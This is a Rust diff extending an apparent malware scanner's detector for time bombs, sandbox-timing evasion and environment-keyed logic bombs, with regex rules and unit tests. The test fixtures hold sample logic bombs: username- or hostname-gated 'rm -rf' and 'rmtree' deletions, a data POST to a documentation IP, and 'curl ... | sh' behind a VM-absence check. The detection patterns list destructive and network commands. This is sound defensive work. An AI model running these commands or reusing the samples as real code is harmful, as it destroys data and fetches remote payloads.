@@ -6,21 +6,165 @@
 //! - Clock manipulation detection
 //! - Scheduling-based evasion
 //! - Date/time specific triggers
+//! - Unix epoch timestamp triggers
+//! - Anti-sandbox timing checks (elapsed-time measurements)
+//! - Logic bombs keyed to the environment: a username, hostname or domain
+//!   comparison, or a missing VM artifact, guarding a destructive or
+//!   network action
 
 use crate::skills::{
-    schema, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
+    explained_types, find_explanation, read_text_lossy, schema, tag_attack_techniques,
+    AttackMapping, Explanation, Explanations, Finding, ScanParams, Severity, Skill, SkillError,
+    SkillOutput, SkillResult,
 };
 use regex::Regex;
 use serde_json::{json, Value};
-use std::fs;
 use std::path::Path;
-use walkdir::WalkDir;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+/// ATT&CK techniques per finding type
+const ATTACK_TECHNIQUES: AttackMapping = &[
+    ("potential_time_bomb", &["T1053", "T1204"]),
+    ("timestamp_trigger", &["T1053", "T1204"]),
+    ("long_sleep_delay", &["T1497.003"]),
+    ("long_timer_delay", &["T1497.003"]),
+    ("scheduling_detected", &["T1053"]),
+    ("sandbox_timing_check", &["T1497.003"]),
+    ("logic_bomb_env_trigger", &["T1480", "T1497.001"]),
+];
+
+/// How far into the future an epoch literal may point and still be treated as a trigger
+const TIMESTAMP_WINDOW_SECS: u64 = 10 * 365 * 24 * 60 * 60;
+
+/// Lines before a subtraction in which both clock reads must appear
+const TIMING_READ_WINDOW: usize = 6;
+
+/// Lines after a subtraction in which the elapsed time must be tested
+const TIMING_BRANCH_WINDOW: usize = 3;
+
+/// Back-to-back `rdtsc` reads at most this many lines apart count as a
+/// timing check even without a visible branch (typical in inline assembly)
+const RDTSC_PAIR_WINDOW: usize = 3;
+
+/// Lines from an environment comparison (inclusive) in which the guarded
+/// action must appear
+const ENV_TRIGGER_BODY_LINES: usize = 8;
+
+/// Reads of the machine's identity, by what they identify
+const ENV_TRIGGER_SOURCES: &[(&str, &str)] = &[
+    (
+        "username",
+        concat!(
+            r"(?i)\bget(?:login|user)\s*\(|\bGetUserName(?:Ex)?[AW]?\s*\(|Environment\.UserName\b",
+            r"|userInfo\s*\(\s*\)\s*\.username|\bwhoami\b",
+            r"|(?:\benv\b|environ|getenv|ENV)\W{1,3}(?:USERNAME|USER|LOGNAME)\b",
+            r"|\$(?:env:)?(?:USERNAME|USER|LOGNAME)\b|%USERNAME%"
+        ),
+    ),
+    (
+        "hostname",
+        concat!(
+            r"(?i)\bgethostname\s*\(|\bhostname\s*\(|\bplatform\.node\s*\(",
+            r"|\bGetComputerName(?:Ex)?[AW]?\s*\(|Environment\.MachineName\b",
+            r"|(?:\benv\b|environ|getenv|ENV)\W{1,3}(?:COMPUTERNAME|HOSTNAME)\b",
+            r"|\$(?:env:)?(?:COMPUTERNAME|HOSTNAME)\b|%COMPUTERNAME%",
+            r"|\$\(\s*hostname\s*\)|`hostname`|\buname\s+-n\b"
+        ),
+    ),
+    (
+        "domain",
+        concat!(
+            r"(?i)Environment\.UserDomainName\b|\bgetfqdn\s*\(|\bNetGetJoinInformation\b",
+            r"|(?:\benv\b|environ|getenv|ENV)\W{1,3}(?:USERDOMAIN|USERDNSDOMAIN)\b",
+            r"|\$env:USERDOMAIN\b|\$(?:env:)?USERDNSDOMAIN\b|%USERDOMAIN%",
+            r"|\bdnsdomainname\b|Win32_ComputerSystem\b[^\n]*\bDomain\b"
+        ),
+    ),
+];
+
+/// Operator guidance per finding type, for [`Skill::explain`]
+const EXPLANATIONS: Explanations = &[
+    Explanation::new(
+        "logic_bomb_env_trigger",
+        "A comparison against the machine's username, hostname or domain, or a check that VM \
+         artifacts are missing, that guards file deletion or a network call.",
+        "Logic bombs and targeted malware key their payload to one victim's environment, so it \
+         stays dormant in sandboxes and on every other machine.",
+        "Deploy scripts that only clean up on a named host, and tools that refuse to run as root \
+         or phone home only from CI.",
+        "Check which machine or account the literal names and what the guarded branch does. \
+         Move host-specific behavior into configuration.",
+    ),
+    Explanation::new(
+        "long_sleep_delay",
+        "A sleep call with a long delay, usually minutes or more.",
+        "Malware sleeps before acting to outlast sandbox analysis, which typically runs for a few \
+         minutes.",
+        "Retry backoff, polling loops, and rate limiting.",
+        "Check what runs after the delay. Make legitimate intervals configurable and documented.",
+    ),
+    Explanation::new(
+        "long_timer_delay",
+        "A timer or setTimeout scheduled far in the future.",
+        "Delayed execution hides behavior from short dynamic analysis and from users who already \
+         closed the page.",
+        "Session timeouts, cache expiry, and reminder features.",
+        "Review the callback and confirm the delay has a product reason.",
+    ),
+    Explanation::new(
+        "potential_time_bomb",
+        "Code that compares the current date to a fixed date and behaves differently afterwards.",
+        "Time bombs stay dormant through testing and trigger later, a classic insider sabotage \
+         and malware technique.",
+        "License expiry, feature sunsets, and certificate validity checks.",
+        "Read the branch that runs after the date. Expiry logic should be documented and live in \
+         configuration.",
+    ),
+    Explanation::new(
+        "sandbox_timing_check",
+        "Code that measures elapsed time around operations using rdtsc, QueryPerformanceCounter, \
+         or similar, and acts on the result.",
+        "Sandboxes and debuggers slow execution, so malware times itself to detect analysis and \
+         hide.",
+        "Benchmarks, profilers, and games.",
+        "Check whether the measurement changes program behavior rather than only being logged.",
+    ),
+    Explanation::new(
+        "scheduling_detected",
+        "Cron expressions or task scheduler calls that set up recurring execution.",
+        "Scheduled tasks are a standard persistence mechanism after an intrusion.",
+        "Build pipelines, backups, and maintenance jobs.",
+        "Confirm each scheduled job is expected and documented. Remove unknown jobs from the host \
+         as well as the code.",
+    ),
+    Explanation::new(
+        "timestamp_trigger",
+        "A Unix timestamp literal compared against the current time.",
+        "Encoding a trigger date as a number hides it from someone reading the code.",
+        "Epoch constants in tests and expiry times for tokens.",
+        "Decode the timestamp (the finding includes the date) and check what happens when it \
+         passes.",
+    ),
+];
 
 pub struct TemporalDetector {
     date_regex: Regex,
+    epoch_regex: Regex,
+    time_comparison_regex: Regex,
     sleep_regex: Regex,
     timer_regex: Regex,
     schedule_regex: Regex,
+    clock_read_regex: Regex,
+    subtraction_regex: Regex,
+    branch_regex: Regex,
+    env_sources: Vec<(&'static str, Regex)>,
+    env_condition_regex: Regex,
+    env_comparison_regex: Regex,
+    env_assignment_regex: Regex,
+    vm_artifact_regex: Regex,
+    negation_regex: Regex,
+    destructive_action_regex: Regex,
+    network_action_regex: Regex,
 }
 
 impl TemporalDetector {
@@ -28,12 +172,63 @@ impl TemporalDetector {
         Self {
             // Matches specific dates that could be triggers
             date_regex: Regex::new(r"\b(20\d{2})[-/](0?[1-9]|1[0-2])[-/](0?[1-9]|[12]\d|3[01])\b").unwrap(),
+            // Unix timestamps in seconds (10 digits) or milliseconds (13 digits)
+            epoch_regex: Regex::new(r"\b(\d{13}|\d{10})\b").unwrap(),
+            // A clock read compared against something, in either order
+            time_comparison_regex: Regex::new(concat!(
+                r"(?i)(?:Date|getTime|timestamp|\bnow\b|\btime\s*\()[^\n]{0,60}?(?:[<>]=?|[!=]==?)",
+                r"|(?:[<>]=?|[!=]==?)[^\n]{0,60}?(?:Date|getTime|timestamp|\bnow\b|\btime\s*\()"
+            )).unwrap(),
             // Sleep/delay calls with large values
             sleep_regex: Regex::new(r"(?i)(?:sleep|delay|wait|timeout)\s*\(\s*(\d+)\s*\)").unwrap(),
             // setTimeout/setInterval with large delays
             timer_regex: Regex::new(r"(?:setTimeout|setInterval)\s*\([^,]+,\s*(\d+)\s*\)").unwrap(),
             // Scheduling keywords
             schedule_regex: Regex::new(r"(?i)\b(cron|schedule|at\s+\d|timer|periodic)\b").unwrap(),
+            // High-resolution and wall clock reads used to time code
+            clock_read_regex: Regex::new(concat!(
+                r"(?i)\b(?:__rdtscp?|rdtscp?|QueryPerformanceCounter|GetTickCount(?:64)?|timeGetTime)\b",
+                r"|\b(?:performance\.now|Date\.now|Instant::now|clock_gettime|System\.nanoTime)\s*\(",
+                r"|\bnew\s+Date\s*\(\s*\)\s*\.getTime\s*\(",
+                r"|\btime\.(?:time|perf_counter|monotonic)(?:_ns)?\s*\("
+            )).unwrap(),
+            // `a - b` between operands, not `->` or `--`
+            subtraction_regex: Regex::new(r"[\w)\]]\s*-\s*[\w(]").unwrap(),
+            // A comparison inside a conditional or ternary
+            branch_regex: Regex::new(r"\b(?:if|while|elif|unless)\b[^\n]*[<>]|[<>][^\n]*\?[^\n]*:").unwrap(),
+            env_sources: ENV_TRIGGER_SOURCES
+                .iter()
+                .map(|(kind, pattern)| (*kind, Regex::new(pattern).unwrap()))
+                .collect(),
+            // A conditional: keyword, ternary, or shell `&&` / `||` chaining
+            env_condition_regex: Regex::new(r"(?i)\b(?:if|elif|elsif|unless|when|case)\b|\?|&&|\|\|").unwrap(),
+            // Equality or membership tested against a string literal
+            env_comparison_regex: Regex::new(concat!(
+                r#"(?i)(?:[!=]==?|\s!?=\s|\s-(?:i?eq|ne|like|match)\s|\bin\s*[\[({]"#,
+                r#"|\.(?:equals\w*|startswith|endswith|includes|contains|match)\s*\()[^\n]*["'][^"'\n]{2,}["']"#,
+                r#"|["'][^"'\n]{2,}["'][^\n]*(?:[!=]==?|\s-(?:i?eq|ne)\s|\bin\b)"#
+            )).unwrap(),
+            // `name = <identity read>`, with an optional declaration keyword
+            env_assignment_regex: Regex::new(
+                r"^\s*(?:(?:const|let|var|my|local|set|export|string|auto|\$)\s*)?\$?([A-Za-z_]\w*)\s*:?=[^=]"
+            ).unwrap(),
+            vm_artifact_regex: Regex::new(
+                r"(?i)vmware|vbox|virtualbox|qemu|vmtoolsd|vmmouse|vmhgfs|sandboxie|hyper-?v\b"
+            ).unwrap(),
+            negation_regex: Regex::new(r"(?i)\bnot\b|!\s*[\w($]|-not\b|\s!\s|\s-z\s|\s!=\s*\S|==\s*(?:false|0)\b").unwrap(),
+            destructive_action_regex: Regex::new(concat!(
+                r"(?i)\brm\s+-[a-z]*[rf]|\brmtree\s*\(|\bos\.(?:remove|unlink|rmdir)\s*\(",
+                r"|\b(?:unlinkSync|rmSync|rmdirSync|rimraf)\s*\(|\bfs\.(?:unlink|rm)\s*\(",
+                r"|\bRemove-Item\b|\bdel\s+/[fqs]|\brd\s+/s\b|\bformat\s+[a-z]:|\bDeleteFile[AW]?\s*\(",
+                r"|\bmkfs\b|\bdd\s+if=|\bshred\b|\bwipefs\b|\bvssadmin\s+delete\b",
+                r"|\bDROP\s+(?:TABLE|DATABASE)\b|\bremove_dir_all\s*\("
+            )).unwrap(),
+            network_action_regex: Regex::new(concat!(
+                r"(?i)\brequests\.(?:get|post|put)\s*\(|\bfetch\s*\(|\bcurl\s|\bwget\s|\burlopen\s*\(",
+                r"|\bhttps?\.(?:get|request)\s*\(|\bXMLHttpRequest\b|\bInvoke-(?:WebRequest|RestMethod)\b",
+                r"|\bsocket\.(?:connect|create_connection)\s*\(|\bWebClient\b|\bDownload(?:String|File)\b",
+                r"|\bnc\s+-|\breqwest::|\bTcpStream::connect\b"
+            )).unwrap(),
         }
     }
 
@@ -46,7 +241,7 @@ impl TemporalDetector {
             r"if\s*\([^)]*Date",
             r"if\s*\([^)]*getTime\s*\(\s*\)",
             r"if\s*\([^)]*timestamp",
-            r"new\s+Date\s*\(\s*['\"]",
+            r#"new\s+Date\s*\(\s*['"]"#,
         ];
 
         for pattern in comparison_patterns {
@@ -83,6 +278,59 @@ impl TemporalDetector {
         findings
     }
 
+    /// Detect hardcoded Unix timestamps compared against the current time
+    fn detect_timestamp_triggers(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        let now = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .map(|d| d.as_secs())
+            .unwrap_or(0);
+
+        for (line_idx, line) in content.lines().enumerate() {
+            // Large integers are everywhere; only trust ones sitting in a time comparison
+            if !self.time_comparison_regex.is_match(line) {
+                continue;
+            }
+
+            for m in self.epoch_regex.find_iter(line) {
+                let Ok(literal) = m.as_str().parse::<u64>() else {
+                    continue;
+                };
+                let (secs, unit) = if m.as_str().len() == 13 {
+                    (literal / 1000, "milliseconds")
+                } else {
+                    (literal, "seconds")
+                };
+
+                if secs < now || secs > now + TIMESTAMP_WINDOW_SECS {
+                    continue;
+                }
+
+                let date = format_epoch(secs);
+                findings.push(Finding {
+                    finding_type: "timestamp_trigger".to_string(),
+                    value: json!({
+                        "timestamp": literal,
+                        "unit": unit,
+                        "line": line_idx + 1,
+                        "context": line.trim()
+                    }),
+                    confidence: 0.75,
+                    location: path.display().to_string(),
+                    severity: Severity::Critical,
+                    metadata: json!({
+                        "pattern": "Epoch timestamp trigger",
+                        "description": format!("Time comparison against {} ({})", literal, date),
+                        "decoded_date": date
+                    }),
+                });
+            }
+        }
+
+        findings
+    }
+
     /// Detect delayed execution (evasion technique)
     fn detect_delayed_execution(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
@@ -168,37 +416,306 @@ impl TemporalDetector {
         findings
     }
 
-    /// Analyze a single file
-    fn analyze_file(&self, path: &Path) -> Vec<Finding> {
+    /// Detect elapsed-time measurements used to spot sandboxes and
+    /// debuggers: two clock reads, a subtraction, and a branch on the
+    /// result, all within a few lines. Reads of the CPU's cycle counter
+    /// (`rdtsc`, `QueryPerformanceCounter`) make it high severity.
+    fn detect_timing_evasion(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
+        let lines: Vec<&str> = content.lines().collect();
+
+        // Clock APIs read on each line
+        let reads: Vec<Vec<String>> = lines
+            .iter()
+            .map(|line| {
+                self.clock_read_regex
+                    .find_iter(line)
+                    .map(|m| m.as_str().trim_end_matches(|c: char| c == '(' || c.is_whitespace()))
+                    .map(str::to_string)
+                    .collect()
+            })
+            .collect();
+        let is_cycle_counter = |api: &String| {
+            let api = api.to_ascii_lowercase();
+            api.contains("rdtsc") || api == "queryperformancecounter"
+        };
+
+        let mut covered_until = None;
+        for (idx, line) in lines.iter().enumerate() {
+            if covered_until.is_some_and(|end| idx <= end) {
+                continue;
+            }
 
-        if let Ok(content) = fs::read_to_string(path) {
-            findings.extend(self.detect_time_bombs(path, &content));
-            findings.extend(self.detect_delayed_execution(path, &content));
-            findings.extend(self.detect_scheduling(path, &content));
+            let is_branch = self.branch_regex.is_match(line);
+            if !self.subtraction_regex.is_match(line) || (reads[idx].is_empty() && !is_branch) {
+                continue;
+            }
+
+            let start = idx.saturating_sub(TIMING_READ_WINDOW);
+            let apis: Vec<&String> = reads[start..=idx].iter().flatten().collect();
+            let end = (idx + TIMING_BRANCH_WINDOW).min(lines.len() - 1);
+            let branches =
+                is_branch || lines[idx..=end].iter().any(|l| self.branch_regex.is_match(l));
+            if apis.len() < 2 || !branches {
+                continue;
+            }
+
+            let cycle_counter = apis.iter().any(|api| is_cycle_counter(api));
+            let (severity, confidence) = if cycle_counter {
+                (Severity::High, 0.85)
+            } else {
+                (Severity::Medium, 0.75)
+            };
+            let mut unique: Vec<&String> = apis.clone();
+            unique.sort();
+            unique.dedup();
+
+            findings.push(Finding {
+                finding_type: "sandbox_timing_check".to_string(),
+                value: json!({
+                    "apis": unique,
+                    "line": idx + 1,
+                    "context": line.trim(),
+                    "branch": true
+                }),
+                confidence,
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "Anti-sandbox timing check",
+                    "description": format!(
+                        "Elapsed time between {} clock reads is tested on line {} - \
+                         potential sandbox/debugger detection",
+                        apis.len(),
+                        idx + 1
+                    )
+                }),
+            });
+            covered_until = Some(end);
+        }
+
+        // Paired cycle-counter reads with no branch in sight, as in inline
+        // assembly (`rdtsc; cpuid; rdtsc`), outside the checks above
+        let reported: Vec<usize> = findings
+            .iter()
+            .filter_map(|f| f.value["line"].as_u64())
+            .map(|line| line as usize - 1)
+            .collect();
+        let rdtsc_lines: Vec<usize> = reads
+            .iter()
+            .enumerate()
+            .flat_map(|(idx, apis)| {
+                apis.iter()
+                    .filter(|api| api.to_ascii_lowercase().contains("rdtsc"))
+                    .map(move |_| idx)
+            })
+            .collect();
+        let mut last_pair_end = None;
+        for pair in rdtsc_lines.windows(2) {
+            let (first, second) = (pair[0], pair[1]);
+            // A check reported on line `r` already used the reads in r-WINDOW..=r
+            let near_report = reported
+                .iter()
+                .any(|&line| first <= line && line <= second + TIMING_READ_WINDOW);
+            if second - first > RDTSC_PAIR_WINDOW
+                || near_report
+                || last_pair_end.is_some_and(|end| first <= end)
+            {
+                continue;
+            }
+
+            findings.push(Finding {
+                finding_type: "sandbox_timing_check".to_string(),
+                value: json!({
+                    "apis": ["rdtsc"],
+                    "line": first + 1,
+                    "context": lines[first].trim(),
+                    "branch": false
+                }),
+                confidence: 0.75,
+                location: path.display().to_string(),
+                severity: Severity::Medium,
+                metadata: json!({
+                    "pattern": "Anti-sandbox timing check",
+                    "description": format!(
+                        "Back-to-back rdtsc reads on lines {}-{} - potential VM detection",
+                        first + 1,
+                        second + 1
+                    )
+                }),
+            });
+            last_pair_end = Some(second);
         }
 
         findings
     }
 
-    /// Analyze a directory
-    fn analyze_directory(&self, path: &Path, recursive: bool) -> Vec<Finding> {
-        let mut findings = Vec::new();
+    /// What identity `line` reads, if any
+    fn env_source(&self, line: &str) -> Option<&'static str> {
+        self.env_sources
+            .iter()
+            .find(|(_, regex)| regex.is_match(line))
+            .map(|(kind, _)| *kind)
+    }
 
-        let walker = if recursive {
-            WalkDir::new(path)
-        } else {
-            WalkDir::new(path).max_depth(1)
-        };
+    /// First destructive or network action in `lines`:
+    /// `(action kind, index into lines)`
+    fn guarded_action(&self, lines: &[&str]) -> Option<(&'static str, usize)> {
+        lines.iter().enumerate().find_map(|(idx, line)| {
+            if self.destructive_action_regex.is_match(line) {
+                Some(("destructive", idx))
+            } else if self.network_action_regex.is_match(line) {
+                Some(("network", idx))
+            } else {
+                None
+            }
+        })
+    }
 
-        for entry in walker.into_iter().filter_map(|e| e.ok()) {
-            if entry.file_type().is_file() {
-                findings.extend(self.analyze_file(entry.path()));
+    /// Detect logic bombs keyed to the environment: a conditional that
+    /// compares the username, hostname or domain against a literal (read
+    /// directly or through a variable assigned a few lines earlier), or
+    /// tests that a VM artifact is absent, followed within a few lines by
+    /// a destructive or network action. Such checks have legitimate uses,
+    /// so confidence stays modest.
+    fn detect_env_triggers(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let lines: Vec<&str> = content.lines().collect();
+        // Variables holding an identity read, by name
+        let mut tainted: Vec<(&str, &'static str)> = Vec::new();
+
+        let mut covered_until = None;
+        for (idx, line) in lines.iter().enumerate() {
+            let source = self.env_source(line);
+            if let (Some(kind), Some(cap)) = (source, self.env_assignment_regex.captures(line)) {
+                if let Some(name) = cap.get(1) {
+                    tainted.push((name.as_str(), kind));
+                }
             }
+            if covered_until.is_some_and(|end| idx <= end)
+                || !self.env_condition_regex.is_match(line)
+            {
+                continue;
+            }
+
+            let identity = source.or_else(|| {
+                tainted
+                    .iter()
+                    .rev()
+                    .find(|(name, _)| contains_word(line, name))
+                    .map(|(_, kind)| *kind)
+            });
+            // The identity read's own literals (`environ["USER"]`) are not a comparison
+            let compared = self
+                .env_sources
+                .iter()
+                .fold(line.to_string(), |l, (_, regex)| regex.replace_all(&l, "_").into_owned());
+            let trigger = match identity {
+                Some(kind) if self.env_comparison_regex.is_match(&compared) => kind,
+                _ if self.vm_artifact_regex.is_match(line)
+                    && self.negation_regex.is_match(line) =>
+                {
+                    "vm_absence"
+                }
+                _ => continue,
+            };
+
+            let end = (idx + ENV_TRIGGER_BODY_LINES).min(lines.len());
+            let Some((action, offset)) = self.guarded_action(&lines[idx..end]) else {
+                continue;
+            };
+            let action_line = idx + offset;
+            let (severity, confidence) = match action {
+                "destructive" => (Severity::High, 0.75),
+                _ => (Severity::Medium, 0.7),
+            };
+
+            findings.push(Finding {
+                finding_type: "logic_bomb_env_trigger".to_string(),
+                value: json!({
+                    "trigger": trigger,
+                    "action": action,
+                    "line": idx + 1,
+                    "action_line": action_line + 1,
+                    "context": line.trim(),
+                    "action_context": lines[action_line].trim()
+                }),
+                confidence,
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "Environment-keyed logic bomb",
+                    "description": format!(
+                        "{} check on line {} guards a {} action on line {}",
+                        trigger.replace('_', " "),
+                        idx + 1,
+                        action,
+                        action_line + 1
+                    )
+                }),
+            });
+            covered_until = Some(action_line);
         }
 
         findings
     }
+
+    /// Analyze a single file
+    fn analyze_file(&self, path: &Path, max_bytes: u64) -> Vec<Finding> {
+        read_text_lossy(path, max_bytes)
+            .map(|content| self.analyze_text(path, &content))
+            .unwrap_or_default()
+    }
+
+    /// Run every check over `content`, reported against `path`
+    fn analyze_text(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        findings.extend(self.detect_time_bombs(path, content));
+        findings.extend(self.detect_timestamp_triggers(path, content));
+        findings.extend(self.detect_delayed_execution(path, content));
+        findings.extend(self.detect_timing_evasion(path, content));
+        findings.extend(self.detect_env_triggers(path, content));
+        findings.extend(self.detect_scheduling(path, content));
+
+        findings
+    }
+}
+
+/// Whether `word` appears in `line` as a whole identifier
+fn contains_word(line: &str, word: &str) -> bool {
+    let is_ident = |c: char| c.is_alphanumeric() || c == '_';
+    line.match_indices(word).any(|(start, _)| {
+        let before = line[..start].chars().next_back();
+        let after = line[start + word.len()..].chars().next();
+        !before.is_some_and(is_ident) && !after.is_some_and(is_ident)
+    })
+}
+
+/// Render seconds since the Unix epoch as an ISO 8601 UTC timestamp
+fn format_epoch(secs: u64) -> String {
+    let days = (secs / 86_400) as i64;
+    let rem = secs % 86_400;
+
+    // Civil-from-days over 400-year eras (Howard Hinnant's algorithm)
+    let z = days + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+
+    format!(
+        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
+        year,
+        month,
+        day,
+        rem / 3_600,
+        rem % 3_600 / 60,
+        rem % 60
+    )
 }
 
 impl Default for TemporalDetector {
@@ -214,7 +731,9 @@ impl Skill for TemporalDetector {
 
     fn description(&self) -> &str {
         "Detects time-based attack patterns including time bombs, \
-         delayed execution for sandbox evasion, and scheduling mechanisms."
+         epoch timestamp triggers, delayed execution and elapsed-time checks \
+         for sandbox evasion, logic bombs keyed to a username, hostname, domain \
+         or missing VM artifacts, and scheduling mechanisms."
     }
 
     fn schema(&self) -> Value {
@@ -240,22 +759,193 @@ impl Skill for TemporalDetector {
             )));
         }
 
-        let findings = if path.is_file() {
-            self.analyze_file(path)
-        } else {
-            self.analyze_directory(path, scan_params.recursive)
-        };
+        let max_bytes = scan_params.max_file_bytes();
+        let (findings, stats) = scan_params.scan_files(|file| self.analyze_file(file, max_bytes))?;
 
         let threshold = self.confidence_threshold();
-        let filtered: Vec<Finding> = findings
+        let mut filtered: Vec<Finding> = findings
             .into_iter()
             .filter(|f| f.confidence >= threshold)
             .collect();
 
-        Ok(SkillOutput::with_findings(filtered))
+        tag_attack_techniques(&mut filtered, self.attack_techniques());
+
+        Ok(SkillOutput::with_findings_and_stats(filtered, stats))
+    }
+
+    fn attack_techniques(&self) -> AttackMapping {
+        ATTACK_TECHNIQUES
+    }
+
+    fn analyze_content(&self, name: &str, content: &str) -> SkillResult<Vec<Finding>> {
+        let threshold = self.confidence_threshold();
+        let mut findings = self.analyze_text(Path::new(name), content);
+        findings.retain(|f| f.confidence >= threshold);
+        tag_attack_techniques(&mut findings, self.attack_techniques());
+        Ok(findings)
+    }
+
+    fn finding_types(&self) -> Vec<&str> {
+        explained_types(EXPLANATIONS)
+    }
+
+    fn explain(&self, finding_type: &str) -> Option<Explanation> {
+        find_explanation(EXPLANATIONS, finding_type)
     }
 
     fn categories(&self) -> Vec<&str> {
         vec!["temporal", "evasion", "malware"]
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn future_secs(days: u64) -> u64 {
+        SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() + days * 86_400
+    }
+
+    #[test]
+    fn test_format_epoch() {
+        assert_eq!(format_epoch(0), "1970-01-01T00:00:00Z");
+        assert_eq!(format_epoch(1_735_689_600), "2025-01-01T00:00:00Z");
+        assert_eq!(format_epoch(951_825_600), "2000-02-29T12:00:00Z");
+    }
+
+    #[test]
+    fn test_timestamp_trigger_in_comparison() {
+        let detector = TemporalDetector::new();
+        let millis = future_secs(365) * 1000;
+        let secs = future_secs(30);
+        let content = format!(
+            "if (Date.now() > {}) {{ payload(); }}\nif (time() >= {}) run();\n",
+            millis, secs
+        );
+
+        let findings = detector.detect_timestamp_triggers(Path::new("bomb.js"), &content);
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].value["unit"], "milliseconds");
+        assert_eq!(findings[1].value["unit"], "seconds");
+        assert_eq!(findings[1].value["line"], 2);
+        assert_eq!(findings[1].metadata["decoded_date"], format_epoch(secs));
+    }
+
+    #[test]
+    fn test_timestamp_ignored_without_context_or_outside_window() {
+        let detector = TemporalDetector::new();
+        let content = format!(
+            "const accountId = {};\nif (Date.now() > 1000000000000) old();\nif (x > {}) y();\n",
+            future_secs(60),
+            future_secs(60)
+        );
+
+        assert!(detector
+            .detect_timestamp_triggers(Path::new("ok.js"), &content)
+            .is_empty());
+    }
+
+    #[test]
+    fn test_timing_check_with_branch() {
+        let detector = TemporalDetector::new();
+        let path = Path::new("loader.js");
+
+        let js = "const start = performance.now();\n\
+                  for (let i = 0; i < 1e6; i++) {}\n\
+                  const elapsed = performance.now() - start;\n\
+                  if (elapsed > 500) { process.exit(0); }\n";
+        let findings = detector.detect_timing_evasion(path, js);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["line"], 3);
+
+        let c = "unsigned long long t1 = __rdtsc();\n\
+                 __cpuid(info, 0);\n\
+                 unsigned long long t2 = __rdtsc();\n\
+                 if ((t2 - t1) > 1000) ExitProcess(0);\n";
+        let findings = detector.detect_timing_evasion(path, c);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].value["apis"], json!(["__rdtsc"]));
+    }
+
+    #[test]
+    fn test_timing_without_branch_or_pair_ignored() {
+        let detector = TemporalDetector::new();
+        let path = Path::new("bench.js");
+
+        // Benchmark logging: two reads and a subtraction, but nothing branches on it
+        let bench = "const t0 = performance.now();\nwork();\n\
+                     console.log(`took ${performance.now() - t0}ms`);\n";
+        assert!(detector.detect_timing_evasion(path, bench).is_empty());
+
+        // Throttling with a single clock read
+        let throttle = "if (Date.now() - lastSave > 5000) save();\n";
+        assert!(detector.detect_timing_evasion(path, throttle).is_empty());
+
+        // Inline assembly has no `if`, but the rdtsc pair alone is telling
+        let asm = "rdtsc\nmov ebx, eax\ncpuid\nrdtsc\nsub eax, ebx\n";
+        let findings = detector.detect_timing_evasion(path, asm);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["branch"], false);
+    }
+
+    #[test]
+    fn test_env_triggered_logic_bombs() {
+        let detector = TemporalDetector::new();
+
+        let username_gated = r#"import getpass, shutil
+
+user = getpass.getuser()
+if user.lower() == "jsmith":
+    shutil.rmtree("/srv/payroll")
+"#;
+        let findings = detector.detect_env_triggers(Path::new("cleanup.py"), username_gated);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["trigger"], "username");
+        assert_eq!(findings[0].value["action"], "destructive");
+        assert_eq!(findings[0].value["action_line"], 5);
+        assert_eq!(findings[0].severity, Severity::High);
+
+        let hostname_gated = "const os = require('os');\n\
+                              if (os.hostname() === 'FIN-DC01') {\n\
+                              \x20 fetch('https://203.0.113.5/k', { method: 'POST', body: data });\n\
+                              }\n";
+        let findings = detector.detect_env_triggers(Path::new("index.js"), hostname_gated);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["trigger"], "hostname");
+        assert_eq!(findings[0].value["action"], "network");
+        assert_eq!(findings[0].severity, Severity::Medium);
+
+        let shell = "[ \"$(hostname)\" = \"build-07\" ] && rm -rf /var/lib/app\n\
+                     if [ ! -d /proc/vz ] && ! grep -qi vmware /sys/class/dmi/id/sys_vendor; then\n\
+                     \x20 curl -s http://203.0.113.5/stage2 | sh\nfi\n";
+        let triggers: Vec<Value> = detector
+            .detect_env_triggers(Path::new("run.sh"), shell)
+            .into_iter()
+            .map(|f| f.value["trigger"].clone())
+            .collect();
+        assert_eq!(triggers, [json!("hostname"), json!("vm_absence")]);
+    }
+
+    #[test]
+    fn test_env_checks_without_payload_ignored() {
+        let detector = TemporalDetector::new();
+        let no_payload = r#"import getpass, socket, logging
+
+if getpass.getuser() == "root":
+    raise SystemExit("do not run as root")
+host = socket.gethostname()
+logging.info("starting on %s", host)
+"#;
+        assert!(detector
+            .detect_env_triggers(Path::new("main.py"), no_payload)
+            .is_empty());
+
+        // The only literal is the variable name inside the identity read
+        let no_comparison = "if os.environ[\"USER\"] != \"\":\n    shutil.rmtree(tmp)\n";
+        assert!(detector
+            .detect_env_triggers(Path::new("clean.py"), no_comparison)
+            .is_empty());
+    }
+}